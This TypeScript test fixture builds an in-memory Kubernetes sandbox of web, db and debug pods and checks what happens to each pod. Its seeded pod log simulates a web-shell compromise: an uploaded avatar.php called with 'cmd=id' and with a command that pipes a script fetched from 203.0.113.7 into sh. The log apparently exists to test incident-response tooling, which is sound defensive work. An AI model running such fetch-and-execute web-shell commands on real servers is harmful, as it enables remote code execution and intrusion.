import { setTimeout as sleep } from 'node:timers/promises'
import { deployment, pod, startSandbox, statefulSet, type KubeObject } from '@talon/sandbox'
import type { Place } from './events.ts'

const NAMESPACE = 'shop'
/** What the pods have logged: the sandbox runs no program. */
const LOG = [
  'listening on :8080',
  'GET /cart 200',
  'POST /avatar 201 avatar.php',
  'GET /avatars/avatar.php?cmd=id 200',
  'GET /avatars/avatar.php?cmd=curl+-s+203.0.113.7/x|sh 200',
].join('\n')

/** The cluster of the story. It is asked over HTTP, past Talon. */
export interface Cluster {
  readonly web: readonly [Place, Place]
  readonly db: Place
  readonly debug: Place
  writeKubeconfig(path: string): string
  /** Names of the pods that are there. */
  pods(): Promise<readonly string[]>
  /** What became of a pod, in a few words. */
  look(place: Place): Promise<string>
  close(): Promise<void>
}

/** Starts a Kubernetes API in memory: a Deployment of two pods, a StatefulSet of one, and a pod that nobody owns. */
export async function startCluster(): Promise<Cluster> {
  const sandbox = await startSandbox({ log: ({ pod }) => `${LOG}\n${pod.metadata.name} is up\n` })
  const namespace = NAMESPACE
  const seeded = [
    deployment({ name: 'web', namespace, replicas: 2 }),
    statefulSet({ name: 'db', namespace, replicas: 1 }),
    pod({ name: 'debug', namespace }),
  ].flat()
  sandbox.seed(...seeded)
  const labelsBefore = new Set(seeded.flatMap(({ metadata }) => Object.keys(metadata.labels ?? {})))

  async function list(): Promise<readonly KubeObject[]> {
    const answer = await fetch(`${sandbox.url}/api/v1/namespaces/${namespace}/pods`)
    return ((await answer.json()) as { items: KubeObject[] }).items
  }
  const first = await list()
  const known = new Set(first.map(({ metadata }) => metadata.uid))
  const placeOf = (prefix: string, at = 0): Place => {
    const found = first.filter(({ metadata }) => metadata.name.startsWith(prefix))[at]
    if (!found) throw new Error(`the sandbox has no pod ${prefix}`)
    const [status] = (found.status?.['containerStatuses'] ?? []) as { containerID?: string }[]
    return {
      namespace,
      pod: found.metadata.name,
      uid: found.metadata.uid ?? '',
      containerId: (status?.containerID ?? '').replace(/^.*\/\//, '').slice(0, 12),
    }
  }

  /** The ReplicaSet makes another pod, a moment later. */
  async function replacement(): Promise<string | undefined> {
    for (let tries = 0; tries < 20; tries += 1) {
      const next = (await list()).find(({ metadata }) => !known.has(metadata.uid))
      if (next) return next.metadata.name
      await sleep(25)
    }
    return undefined
  }

  return {
    web: [placeOf('web'), placeOf('web', 1)],
    db: placeOf('db'),
    debug: placeOf('debug'),
    writeKubeconfig: (path) => sandbox.writeKubeconfig(path),
    pods: async () => (await list()).map(({ metadata }) => metadata.name).toSorted(),
    async look({ pod: name, uid }) {
      const found = (await list()).find(({ metadata }) => metadata.uid === uid)
      if (!found || found.metadata.deletionTimestamp) {
        const next = await replacement()
        return `the pod ${found ? 'ends' : 'is gone'}${next ? `, ${next} took its place` : ''}`
      }
      const added = Object.entries(found.metadata.labels ?? {}).filter(([key]) => !labelsBefore.has(key))
      const labels = added.map(([key, value]) => `${key}=${value}`).join(', ')
      return labels ? `${name} has the label ${labels}` : `${name} runs, untouched`
    },
    close: () => sandbox.close(),
  }
}
